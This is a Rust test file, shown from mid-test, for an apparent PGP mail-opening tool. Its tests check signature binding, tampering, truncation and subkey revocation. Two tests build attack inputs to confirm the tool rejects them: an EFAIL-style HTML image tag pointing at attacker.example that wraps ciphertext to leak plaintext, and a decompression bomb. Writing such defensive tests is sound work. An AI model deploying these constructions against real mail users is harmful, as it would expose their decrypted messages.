        PROTECTED.as_bytes(),
    );
    let o = opened(&message(STRANGER, "x", &pgp_mime_entity(&ct)));
    full_enc(&o);
    assert!(
        matches!(o.signature, SignatureFacts::UnknownKey { .. }),
        "{:?}",
        o.signature
    );
}

#[test]
fn verdict_binds_signer_to_thread_contacts() {
    let f = fixture();
    let ct = encrypt_armored(&[&coordinator_fpr()], Some(&f.vendor), PROTECTED.as_bytes());
    let o = opened(&message(VENDOR, "x", &pgp_mime_entity(&ct)));
    let vendor_contact = ThreadContact {
        address: VENDOR.into(),
        key_fingerprints: vec![f.vendor.clone()],
    };
    let reporter_contact = ThreadContact {
        address: REPORTER.into(),
        key_fingerprints: vec![f.reporter.clone()],
    };
    let v = signature_verdict(
        &o.signature,
        Some(VENDOR),
        &[vendor_contact.clone(), reporter_contact.clone()],
    );
    assert_eq!(v.signature, SignatureVerdict::Good, "{}", v.reason);
    assert_eq!(v.signer.as_deref(), Some(f.vendor.as_str()));
    // Same signed message, From spoofed as the reporter: never good.
    let v = signature_verdict(
        &o.signature,
        Some(REPORTER),
        &[vendor_contact, reporter_contact.clone()],
    );
    assert_eq!(v.signature, SignatureVerdict::NotParticipant);
    // Vendor key not bound in this thread.
    let v = signature_verdict(&o.signature, Some(VENDOR), &[reporter_contact]);
    assert_eq!(v.signature, SignatureVerdict::NotParticipant);
}

// ---------------------------------------------------------------------------------------
// EFAIL classes and failures: quarantine, nothing decrypted

#[test]
fn efail_unencrypted_parts_around_ciphertext_are_partial() {
    let ct = encrypt_armored(&[&coordinator_fpr()], None, PROTECTED.as_bytes());
    let entity = format!(
        "Content-Type: multipart/mixed; boundary=\"ef\"\r\n\r\n--ef\r\nContent-Type: text/html\r\n\r\n\
         <img src=\"http://attacker.example/\r\n--ef\r\n{}\r\n--ef\r\nContent-Type: text/html\r\n\r\n\">\r\n--ef--\r\n",
        pgp_mime_entity(&ct).trim_end()
    );
    let o = opened(&message(VENDOR, "x", &entity));
    let reason = partial_enc(&o);
    assert!(reason.contains("1 of 3"), "{reason}");
    assert_eq!(
        o.protected_subject, None,
        "a nested encrypted part never sets the subject"
    );
}

#[test]
fn sed_without_mdc_is_an_integrity_error() {
    let ct = encrypt(
        &[&coordinator_fpr()],
        None,
        PROTECTED.as_bytes(),
        &["--armor", "--rfc2440"],
    );
    match open(
        &message(VENDOR, "x", &pgp_mime_entity(&ct)),
        &fixture().keyring,
    ) {
        Err(OpenError::Integrity(m)) => {
            assert!(m.contains("MDC") || m.contains("integrity"), "{m}")
        }
        other => panic!("{other:?}"),
    }
    // Inline too.
    match open(
        &message(VENDOR, "x", &text_entity(&s(&ct))),
        &fixture().keyring,
    ) {
        Err(OpenError::Integrity(_)) => {}
        other => panic!("{other:?}"),
    }
}

/// Flips one byte well inside the encrypted data packet and re-armors it.
fn tamper(binary: &[u8]) -> Vec<u8> {
    let mut b = binary.to_vec();
    let i = b.len() - 30;
    b[i] ^= 0x01;
    armor(&b)
}

/// An OpenPGP message in ASCII armor.
fn armor(binary: &[u8]) -> Vec<u8> {
    use sequoia_openpgp::armor::{Kind, Writer};
    use std::io::Write;
    let mut w = Writer::new(Vec::new(), Kind::Message).unwrap();
    w.write_all(binary).unwrap();
    w.finalize().unwrap()
}

#[test]
fn tampered_ciphertext_is_an_integrity_error() {
    for extra in [&["-z", "0"][..], &[][..]] {
        let mut args = vec!["--set-filename", "x"];
        args.extend(extra);
        let body = PROTECTED.repeat(20);
        let bin = encrypt(&[&coordinator_fpr()], None, body.as_bytes(), &args);
        // Untampered opens.
        let armored = tamper(&bin);
        let ok = armor(&bin);
        full_enc(&opened(&message(VENDOR, "x", &pgp_mime_entity(&ok))));
        match open(
            &message(VENDOR, "x", &pgp_mime_entity(&armored)),
            &fixture().keyring,
        ) {
            Err(OpenError::Integrity(m)) => assert!(!m.is_empty()),
            other => panic!("{extra:?}: {other:?}"),
        }
    }
}

/// Sequoia holds back only a small buffer of plaintext before checking (`STREAM_BUFFER`,
/// 64 KiB): a message far larger than it still opens whole with its signature checked at
/// the end, and the same message tampered with near its end is an integrity failure, never a
/// partial plaintext or a good signature.
#[test]
fn signed_and_encrypted_message_larger_than_the_hold_back_buffer() {
    let f = fixture();
    let mut body = String::from("Content-Type: text/plain; charset=utf-8\r\n\r\n");
    for i in 0..6000 {
        body.push_str(&format!(
            "Line {i} of the long advisory, all of it protected.\r\n"
        ));
    }
    assert!(body.len() > 4 * (1 << 16), "{}", body.len());
    let bin = encrypt(
        &[&coordinator_fpr()],
        Some(&f.vendor),
        body.as_bytes(),
        &["-z", "0"],
    );
    let o = opened(&message(VENDOR, "long", &pgp_mime_entity(&armor(&bin))));
    full_enc(&o);
    valid_by(&o, &f.vendor, VENDOR);
    let text = inner_bodies(&o);
    assert!(
        text.contains("Line 0 of the long advisory"),
        "{}",
        text.len()
    );
    assert!(
        text.contains("Line 5999 of the long advisory"),
        "{}",
        text.len()
    );

    match open(
        &message(VENDOR, "long", &pgp_mime_entity(&tamper(&bin))),
        &f.keyring,
    ) {
        Err(OpenError::Integrity(m)) => assert!(!m.is_empty()),
        other => panic!("{other:?}"),
    }
}

#[test]
fn message_for_someone_else_is_not_for_us() {
    let f = fixture();
    let ct = encrypt_armored(&[&f.stranger], None, PROTECTED.as_bytes());
    match open(&message(VENDOR, "x", &pgp_mime_entity(&ct)), &f.keyring) {
        Err(e @ OpenError::NotForUs { .. }) => {
            let text = e.to_string();
            assert!(text.contains(&f.enc_keyid(&f.stranger)), "{text}");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn no_secret_key_configured() {
    let ct = encrypt_armored(&[&coordinator_fpr()], None, PROTECTED.as_bytes());
    let public_only = Keyring::new(None, vec![]);
    assert!(matches!(
        open(&message(VENDOR, "x", &pgp_mime_entity(&ct)), &public_only),
        Err(OpenError::NoSecretKey)
    ));
}

#[test]
fn corrupt_armor_is_malformed_and_truncated_ciphertext_fails_integrity() {
    let ct = s(&encrypt_armored(
        &[&coordinator_fpr()],
        None,
        PROTECTED.as_bytes(),
    ));
    let mut lines: Vec<String> = ct.lines().map(str::to_string).collect();
    let mid = lines.len() / 2;
    lines[mid] = "@@@@ this is not base64 @@@@".into();
    let corrupt = lines.join("\n");
    match open(
        &message(VENDOR, "x", &pgp_mime_entity(corrupt.as_bytes())),
        &fixture().keyring,
    ) {
        Err(OpenError::Malformed(m)) => assert!(m.contains("armor"), "{m}"),
        other => panic!("{other:?}"),
    }
    // Truncated: the END line and most of the ciphertext are missing. What is there decrypts
    // to a stream that stops early: an integrity failure, never partial plaintext.
    let truncated: String = ct.lines().take(5).map(|l| format!("{l}\n")).collect();
    match open(
        &message(VENDOR, "x", &text_entity(&truncated)),
        &fixture().keyring,
    ) {
        Err(OpenError::Integrity(m)) => assert!(m.contains("corrupt"), "{m}"),
        other => panic!("{other:?}"),
    }
}

#[test]
fn decompression_bomb_is_too_large() {
    let zeros = vec![0u8; 80 << 20];
    let bin = encrypt(
        &[&coordinator_fpr()],
        None,
        &zeros,
        &["-z", "9", "--compress-algo", "zlib"],
    );
    assert!(bin.len() < 2 << 20, "compressed to {}", bin.len());
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD.encode(&bin);
    let entity = format!(
        "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"e\"\r\n\r\n\
         --e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n\
         --e\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64}\r\n--e--\r\n"
    );
    // 80 MiB of plaintext from a message under 2 MiB, against a 16 MiB decoded limit (the
    // default, 256 MiB, is the same check at another size).
    let limits = casegate::limits::Limits {
        max_decoded_bytes: 16 << 20,
        ..Default::default()
    };
    let raw = message(VENDOR, "x", &entity);
    match casegate::open::open_with(&raw, &fixture().keyring, &limits) {
        Err(OpenError::TooLarge) => {}
        Err(e) => panic!("a decompression bomb must be too large, not {e}"),
        Ok(o) => panic!(
            "a decompression bomb was opened ({} bytes of plaintext)",
            o.inner.map_or(0, |i| i.len())
        ),
    }
}

#[test]
fn plain_messages_are_untouched() {
    let o = opened(&message(VENDOR, "hello", &text_entity("just text\r\n")));
    assert_eq!(o.inner, None);
    assert_eq!(o.encryption, Encryption::None);
    assert_eq!(o.signature, SignatureFacts::None);
    assert_eq!(o.protected_subject, None);
    // A quoted armored block in a reply is history, not content.
    let o = opened(&message(
        VENDOR,
        "Re: x",
        &text_entity("> -----BEGIN PGP MESSAGE-----\r\n> abc\r\n> -----END PGP MESSAGE-----\r\n"),
    ));
    assert_eq!(o.encryption, Encryption::None);
    // Public keys attached are not messages.
    let key = keyring::armored_public(&fixture().coordinator).unwrap();
    let entity = format!(
        "Content-Type: multipart/mixed; boundary=\"k\"\r\n\r\n--k\r\n{}\r\n--k\r\n\
         Content-Type: application/pgp-keys; name=\"key.asc\"\r\nContent-Disposition: attachment; filename=\"key.asc\"\r\n\r\n{key}\r\n--k--\r\n",
        text_entity("my key\r\n")
    );
    let o = opened(&message(VENDOR, "key", &entity));
    assert_eq!(
        (o.encryption, o.signature),
        (Encryption::None, SignatureFacts::None)
    );
    assert!(open(b"", &fixture().keyring).is_ok());
}

#[test]
fn garbage_never_panics() {
    let f = fixture();
    let ct = encrypt(
        &[&coordinator_fpr()],
        Some(&f.vendor),
        PROTECTED.as_bytes(),
        &[],
    );
    let armored = encrypt_armored(&[&coordinator_fpr()], Some(&f.vendor), PROTECTED.as_bytes());
    let (part, sig) = signed_part_and_sig();
    let mut inputs: Vec<Vec<u8>> = Vec::new();
    // Truncations of binary and armored ciphertext at many points.
    for cut in (0..ct.len()).step_by(7) {
        use base64::Engine;
        let b64 = base64::engine::general_purpose::STANDARD.encode(&ct[..cut]);
        inputs.push(message(VENDOR, "x", &format!(
            "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"e\"\r\n\r\n\
             --e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n\
             --e\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64}\r\n--e--\r\n")));
    }
    for cut in (0..armored.len()).step_by(23) {
        inputs.push(message(
            VENDOR,
            "x",
            &text_entity(&String::from_utf8_lossy(&armored[..cut])),
        ));
    }
    // Byte flips everywhere in a signed message and in a detached signature. A flip inside
    // the signed part changes signed bytes: that message must never come out validly signed.
    let signed = message(VENDOR, "x", &signed_entity(&part, &sig, "pgp-sha256"));
    let at = signed
        .windows(part.len())
        .position(|w| w == part.as_bytes())
        .unwrap();
    let signed_range = at..at + part.len();
    let mut must_not_verify = Vec::new();
    for i in (0..signed.len()).step_by(11) {
        let mut m = signed.clone();
        m[i] ^= 0x5a;
        if signed_range.contains(&i) {
            must_not_verify.push(inputs.len());
        }
        inputs.push(m);
    }
    assert!(must_not_verify.len() > 3);
    inputs.push(b"Content-Type: multipart/encrypted\r\n\r\n".to_vec());
    inputs.push(b"Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=x\r\n\r\n--x\r\n".to_vec());
    inputs.push(b"\xff\xfe\x00garbage".to_vec());
    inputs.push(
        b"Content-Type: application/pgp-encrypted; name=a.gpg\r\n\r\n\x85\x01\x0c\x03".to_vec(),
    );
    for (i, input) in inputs.iter().enumerate() {
        let r = std::panic::catch_unwind(|| open(input, &f.keyring));
        let Ok(r) = r else {
            panic!("panicked on {}", String::from_utf8_lossy(input));
        };
        match r {
            Ok(o) => assert!(
                !(must_not_verify.contains(&i)
                    && matches!(o.signature, SignatureFacts::Valid { .. })),
                "a damaged signed part verified: {}",
                String::from_utf8_lossy(input)
            ),
            // An error is one line: it becomes a quarantine reason.
            Err(e) => assert!(!e.to_string().contains('\n'), "{e}"),
        }
    }
}

#[test]
fn attack_html_image_next_to_signed_block() {
    let f = fixture();
    let cs = clearsign(&f.vendor, "Genuine statement.\n");
    let entity = format!(
        "Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><img src=\"cid:fake-statement\"><pre>{cs}</pre></body></html>\r\n"
    );
    let reason = partial_sig(&opened(&message(VENDOR, "x", &entity)));
    assert!(reason.contains(&f.vendor), "{reason}");
    // Without the image, the same HTML is a signed message.
    let entity = format!(
        "Content-Type: text/html; charset=utf-8\r\n\r\n<html><body><pre>{cs}</pre></body></html>\r\n"
    );
    valid_by(&opened(&message(VENDOR, "x", &entity)), &f.vendor, VENDOR);
}

#[test]
fn binary_detached_signature_file_is_not_a_message() {
    use base64::Engine;
    let f = fixture();
    let sig = f
        .gpg
        .run(&["--detach-sign", "-u", &f.vendor], Some(b"data"));
    let entity = format!(
        "Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n--m\r\n{}\r\n--m\r\n\
         Content-Type: application/octet-stream; name=\"notes.txt.gpg\"\r\n\
         Content-Disposition: attachment; filename=\"notes.txt.gpg\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--m--\r\n",
        text_entity("see attached\r\n"),
        base64::engine::general_purpose::STANDARD.encode(&sig)
    );
    let o = opened(&message(VENDOR, "x", &entity));
    assert_eq!(
        (o.encryption, o.signature, o.inner),
        (Encryption::None, SignatureFacts::None, None)
    );
}

// ---------------------------------------------------------------------------------------
// Signing subkeys that expired or were revoked, on certificates that are otherwise valid.

/// Fingerprints of `fpr`'s subkeys with capability `cap` (`s`, `e`), as gpg lists them.
fn subkeys(fpr: &str, cap: char) -> Vec<String> {
    let out = s(&fixture().gpg.run(
        &[
            "--with-colons",
            "--with-subkey-fingerprints",
            "--list-keys",
            fpr,
        ],
        None,
    ));
    let lines: Vec<&str> = out.lines().collect();
    let mut found = Vec::new();
    for (i, l) in lines.iter().enumerate() {
        if l.starts_with("sub:") && l.split(':').nth(11).is_some_and(|c| c.contains(cap)) {
            let fpr_line = lines[i + 1];
            assert!(fpr_line.starts_with("fpr:"), "{out}");
            found.push(fpr_line.split(':').nth(9).unwrap().to_string());
        }
    }
    found
}

/// `gpg --faked-system-time` for `days` ago.
fn days_ago(days: i64) -> String {
    hours_ago(days * 24)
}

fn hours_ago(hours: i64) -> String {
    (chrono::Utc::now() - chrono::Duration::hours(hours))
        .format("%Y%m%dT%H%M%S")
        .to_string()
}

/// The certificate as gpg exports it, in a keyring next to the coordinator.
fn keyring_with(fpr: &str) -> Keyring {
    let f = fixture();
    Keyring::new(
        Some(f.coordinator.clone()),
        keyring::parse_certs(&f.gpg.export(fpr)).unwrap(),
    )
}

#[test]
fn signature_by_an_expired_signing_subkey_is_bad_on_an_otherwise_valid_key() {
    let f = fixture();
    const ADDR: &str = "subkey-expired@foocorp.example";
    // Made three days ago: a certify-only primary that never expires, an encryption subkey,
    // and a signing subkey valid for one day, which signed a statement while it was valid.
    let then = days_ago(3);
    let fpr = f.gpg.gen_key(
        &format!("Subkey Expired <{ADDR}>"),
        "ed25519",
        "cert",
        "never",
        &["--faked-system-time", &then],
    );
    for (algo, usage, expire) in [("cv25519", "encr", "never"), ("ed25519", "sign", "1d")] {
        f.gpg.run(
            &[
                "--faked-system-time",
                &then,
                "--quick-add-key",
                &fpr,
                algo,
                usage,
                expire,
            ],
            None,
        );
    }
    let signing = subkeys(&fpr, 's');
    assert_eq!(signing.len(), 1);
    let statement = s(&f.gpg.run(
        &[
            "--faked-system-time",
            &days_ago(3),
            "-u",
            &format!("{}!", signing[0]),
            "--clearsign",
        ],
        Some(b"Signed while the subkey was valid.\n"),
    ));
    let kr = keyring_with(&fpr);
    let cert = kr.cert(&fpr).unwrap();
    // The certificate itself is fine: not expired, not revoked, can still be encrypted to.
    let sum = keyring::summarize(cert);
    assert!(!sum.expired && !sum.revoked && sum.can_encrypt, "{sum:?}");
    assert!(keyring::encryption_key_valid(cert).is_ok());

    let o = open(&message(ADDR, "x", &text_entity(&statement)), &kr).unwrap();
    let reason = bad_sig(&o);
    assert!(reason.contains("expired"), "{reason}");
    let contact = ThreadContact {
        address: ADDR.into(),
        key_fingerprints: vec![fpr.clone()],
    };
    let v = signature_verdict(&o.signature, Some(ADDR), std::slice::from_ref(&contact));
    assert_eq!(v.signature, SignatureVerdict::Bad, "{}", v.reason);

    // Control: a new signing subkey on the same certificate signs validly today.
    f.gpg
        .run(&["--quick-add-key", &fpr, "ed25519", "sign", "never"], None);
    let fresh = subkeys(&fpr, 's')
        .into_iter()
        .find(|k| k != &signing[0])
        .unwrap();
    let today = clearsign(&format!("{fresh}!"), "Signed today.\n");
    let kr = keyring_with(&fpr);
    let o = open(&message(ADDR, "x", &text_entity(&today)), &kr).unwrap();
    valid_by(&o, &fpr, ADDR);
    let v = signature_verdict(&o.signature, Some(ADDR), &[contact]);
    assert_eq!(v.signature, SignatureVerdict::Good, "{}", v.reason);
}

#[test]
fn signature_by_a_revoked_signing_subkey_is_bad_on_an_otherwise_valid_key() {
    let f = fixture();
    const ADDR: &str = "subkey-revoked@foocorp.example";
    // Made two hours ago, the statement signed one hour ago, the revocation comes now.
    let (made, signed) = (hours_ago(2), hours_ago(1));
    let fpr = f.gpg.gen_key(
        &format!("Subkey Revoked <{ADDR}>"),
        "ed25519",
        "cert",
        "never",
        &["--faked-system-time", &made],
    );
    for (algo, usage) in [("ed25519", "sign"), ("cv25519", "encr")] {
        f.gpg.run(
            &[
                "--faked-system-time",
                &made,
                "--quick-add-key",
                &fpr,
                algo,
                usage,
                "never",
            ],
            None,
        );
    }
    let signing = subkeys(&fpr, 's');
    assert_eq!(signing.len(), 1);
    let statement = s(&f.gpg.run(
        &[
            "--faked-system-time",
            &signed,
            "-u",
            &format!("{}!", signing[0]),
            "--clearsign",
        ],
        Some(b"Signed before the revocation.\n"),
    ));
    let contact = ThreadContact {
        address: ADDR.into(),
        key_fingerprints: vec![fpr.clone()],
    };
    // Before the revocation it verifies (so what changes below is the revocation alone).
    let before = open(
        &message(ADDR, "x", &text_entity(&statement)),
        &keyring_with(&fpr),
    )
    .unwrap();
    valid_by(&before, &fpr, ADDR);

    // The owner revokes the signing subkey (subkey 1: the signing one, added first) as
    // superseded: a "soft" revocation, which by itself leaves signatures made before it valid
    // (RFC 4880 5.2.3.23). Mail arrives now, so casegate counts the key as it is now.
    f.gpg.run(
        &["--command-fd", "0", "--edit-key", &fpr],
        Some(b"key 1\nrevkey\ny\n2\n\ny\nsave\n"),
    );
    let kr = keyring_with(&fpr);
    let cert = kr.cert(&fpr).unwrap();
    let sum = keyring::summarize(cert);
    assert!(!sum.expired && !sum.revoked && sum.can_encrypt, "{sum:?}");
    let o = open(&message(ADDR, "x", &text_entity(&statement)), &kr).unwrap();
    let reason = bad_sig(&o);
    assert!(reason.contains("revoked"), "{reason}");
    let v = signature_verdict(&o.signature, Some(ADDR), &[contact]);
    assert_eq!(v.signature, SignatureVerdict::Bad, "{}", v.reason);
}
